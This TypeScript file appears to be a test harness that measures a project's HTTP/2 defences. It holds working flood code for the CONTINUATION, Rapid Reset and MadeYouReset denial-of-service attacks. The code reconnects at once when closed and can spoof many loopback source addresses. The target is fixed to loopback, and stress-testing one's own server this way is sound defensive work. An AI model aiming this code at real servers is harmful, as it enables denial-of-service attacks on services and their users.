/**
 * HTTP/2 attacks by raw frames, as a program of its own, on loopback only (the address is a constant). A connection that the shield closes is opened again
 * at once, as an attacker would. Prints what happened as JSON. Arguments: attack, TLS port, seconds, connections, host name, `one` or `many` addresses
 * (of 127.0.0.0/8, each connection of a network of its own).
 */
import { connect, type TLSSocket } from 'node:tls'
import { FLAG, FRAME, PREFACE, fieldBlock, frame, u32 } from '../../src/dataplane/edge/http2/raw-frames.ts'
import { SERVER_ADDRESS } from '../measure/loopback.ts'

const [attack, port, seconds, connections, host, addresses] = process.argv.slice(2)
const fields = fieldBlock([[':method', 'GET'], [':scheme', 'https'], [':authority', host], [':path', '/live/1']])
const until = performance.now() + Number(seconds) * 1_000
/** Streams written at once; then the socket's own backpressure decides. */
const BURST = 100

const totals = { connections: 0, refused: 0, goaways: 0, streams: 0, frames: 0, bytes: 0 }

/** The bytes of the next burst; `first` is the first free stream id, and the next one is returned. */
function burst(first: number): { readonly bytes: Buffer; readonly next: number; readonly frames: number } {
  const parts: Buffer[] = []
  let stream = first
  if (attack === 'continuation') {
    // One endless header section; values no decoder can refuse early, small frames to cost the most.
    if (first === 1) parts.push(frame(FRAME.headers, FLAG.endStream, 1, fields))
    const more = fieldBlock([['x-a', 'b'.repeat(100)]])
    for (let i = 0; i < BURST; i++) parts.push(frame(FRAME.continuation, 0, 1, more))
    return { bytes: Buffer.concat(parts), next: 3, frames: parts.length }
  }
  for (let i = 0; i < BURST; i++, stream += 2) {
    parts.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, stream, fields))
    // MadeYouReset: the server must reset a stream whose window is raised by 0, or after DATA on a stream that the visitor has ended.
    if (attack === 'rapid-reset') parts.push(frame(FRAME.reset, 0, stream, u32(8)))
    else parts.push(i % 2 === 0 ? frame(FRAME.windowUpdate, 0, stream, u32(0)) : frame(FRAME.data, FLAG.endStream, stream, Buffer.of(1)))
  }
  return { bytes: Buffer.concat(parts), next: stream, frames: parts.length }
}

function one(index: number): Promise<void> {
  return new Promise((resolve) => {
    const socket: TLSSocket = connect({ host: SERVER_ADDRESS, ...(addresses === 'many' ? { localAddress: `127.${20 + (index % 200)}.${1 + Math.floor(index / 200)}.9` } : {}), port: Number(port), servername: host, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
    let secure = false
    let stream = 1
    const end = (): void => {
      clearTimeout(timer)
      if (!secure) totals.refused++
      resolve()
    }
    const timer = setTimeout(() => socket.destroy(), Math.max(1, Math.min(10_000, until - performance.now())))
    const send = (): void => {
      while (!socket.destroyed && performance.now() < until) {
        if (stream > 2 ** 30) return void socket.destroy()
        const { bytes, next, frames } = burst(stream)
        totals.streams += attack === 'continuation' ? (stream === 1 ? 1 : 0) : (next - stream) / 2
        stream = next
        totals.frames += frames
        totals.bytes += bytes.length
        if (!socket.write(bytes)) return
      }
    }
    socket.on('secureConnect', () => {
      secure = true
      totals.connections++
      socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]))
      send()
    })
    socket.on('drain', send)
    socket.on('data', (chunk: Buffer) => {
      // Close enough for a count: a GOAWAY is the last frame of a connection.
      if (chunk.length >= 9 && chunk.indexOf(Buffer.of(FRAME.goaway, 0, 0, 0, 0, 0)) >= 3) totals.goaways++
    })
    socket.on('error', () => undefined)
    socket.on('close', end)
  })
}

await Promise.all(
  Array.from({ length: Number(connections) }, async (_, index) => {
    while (performance.now() < until) {
      await one(index)
      // A connection refused at once must not turn this program into a busy loop.
      await new Promise((resolve) => setTimeout(resolve, 5))
    }
  }),
)
process.stdout.write(JSON.stringify(totals))
process.exit()
